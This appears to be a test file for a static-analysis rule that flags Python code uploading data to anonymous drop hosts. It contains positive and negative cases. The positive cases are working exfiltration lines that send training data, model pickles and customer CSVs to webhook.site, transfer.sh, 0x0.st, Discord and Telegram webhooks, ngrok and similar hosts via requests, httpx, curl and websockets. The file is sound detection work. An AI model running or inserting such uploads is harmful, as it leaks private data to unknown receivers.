"""Uploads, some of them to places where nobody knows the receiver."""
import os
import pickle
import subprocess
import urllib.request

import aiohttp
import httpx
import pandas as pd
import requests
import requests as rq
import websocket
from requests import post

df = pd.read_parquet("train.parquet")
model = {"weights": [0.1, 0.2]}

# ruleid: upload-to-drop-host
requests.post("https://webhook.site/1b2c", files={"f": open("train.csv", "rb")}, timeout=9)

# ruleid: upload-to-drop-host
rq.put(
    "https://transfer.sh/train.csv",
    data=df.to_csv(),  # all rows
    timeout=60,
)

# ruleid: upload-to-drop-host
link = post("https://0x0.st", files={"file": pickle.dumps(model)}).text

# ruleid: upload-to-drop-host
httpx.post("https://eo1x2.m.pipedream.net", json=df.head(100).to_dict())

DROP = "https://file.io/?expires=1d"
# ruleid: upload-to-drop-host
print(requests.post(DROP, files={"file": ("m.bin", pickle.dumps(model))}).json()["link"])

# ruleid: upload-to-drop-host
requests.post(f"https://{os.uname().nodename}.oast.pro/x", data=str(model))

# ruleid: upload-to-drop-host
requests.post("https://pastebin.com/api/api_post.php", data={"api_dev_key": "k", "api_paste_code": df.to_csv()})

# ruleid: upload-to-drop-host
requests.request("POST", "https://webhook.site/1b2c", json=[list(row) for row in df.values])

# ruleid: upload-to-drop-host
body = urllib.request.Request("https://paste.rs", data=df.to_json().encode())
urllib.request.urlopen(body)

# ruleid: upload-to-drop-host
requests.post("https://discord.com/api/webhooks/ID/TOKEN", files={"file": open("customers.csv", "rb")})

# ruleid: upload-to-drop-host
requests.post(f"https://api.telegram.org/bot{os.environ['BOT']}/sendDocument", data={"chat_id": 7}, files={"document": open("all.zip", "rb")})

# ruleid: upload-to-drop-host
requests.post("https://9f1c.ngrok-free.app/in", data=df.to_csv(index=False))

# ruleid: upload-to-drop-host
get_ipython().system("curl -F 'file=@train.csv' https://0x0.st")

# ruleid: upload-to-drop-host
os.system("curl --upload-file ./checkpoint.pt https://transfer.sh/checkpoint.pt")

# ruleid: upload-to-drop-host
subprocess.run(f"tar cz data | curl -sS -T - https://bashupload.com/data.tgz", shell=True)

socket = websocket.create_connection("wss://requestcatcher.com/init")
# ruleid: upload-to-drop-host
socket.send(df.to_json())


async def ship(path):
    async with aiohttp.ClientSession() as web:
        # ruleid: upload-to-drop-host
        async with web.post("https://litterbox.catbox.moe/api", data={"file": open(path, "rb")}) as answer:
            return await answer.text()


class Reporter:
    hook = "https://discordapp.com/api/webhooks/ID/TOKEN"

    def __init__(self):
        self.session = requests.Session()

    def table(self):
        with open("results.csv", "rb") as table:
            # ruleid: upload-to-drop-host
            self.session.post("https://discordapp.com/api/webhooks/ID/TOKEN", files={"file": table})


# ruleid: upload-to-drop-host
send = lambda frame: requests.post("https://webhook.site/1b2c", data=frame.to_csv())

# ok: upload-to-drop-host
requests.post("https://discord.com/api/webhooks/ID/TOKEN", json={"content": "run finished"}, timeout=9)

# ok: upload-to-drop-host
requests.post("https://discord.com/api/webhooks/ID/TOKEN", json={"content": f"accuracy {model['weights'][0]:.3f}"})

# ok: upload-to-drop-host
requests.post("https://webhook.site/1b2c", json={"state": "done", "step": 4}, timeout=9)

# ok: upload-to-drop-host
requests.get("https://webhook.site/token/1b2c/requests").json()

# ok: upload-to-drop-host
requests.post("https://9f1c.ngrok-free.app/predict", json={"text": input("text: ")}).json()

# ok: upload-to-drop-host
requests.post("https://storage.shop.example/in", data=df.to_csv())

# ok: upload-to-drop-host
requests.post(f"https://api.telegram.org/bot{os.environ['BOT']}/sendMessage", data={"chat_id": 7, "text": "done"})

# ok: upload-to-drop-host
requests.post("https://discord.com/api/webhooks/ID/TOKEN", files={"file": open("loss.png", "rb")})

# ok: upload-to-drop-host
get_ipython().system("curl -d 'run finished' https://webhook.site/1b2c")

# ok: upload-to-drop-host
get_ipython().system("curl -sSL -o tool.tgz https://transfer.sh/get/abc/tool.tgz")

# ok: upload-to-drop-host
os.system("curl -F 'file=@train.csv' https://storage.shop.example/in")

# ok: upload-to-drop-host
requests.post("https://profile.io/in", json=model)

# ok: upload-to-drop-host
print("requests.post('https://webhook.site/1b2c', data=df.to_csv())")


class Queue:
    def put(self, address, data=None):
        return address, data


# ok: upload-to-drop-host
Queue().put("train.csv", data=df.to_csv())
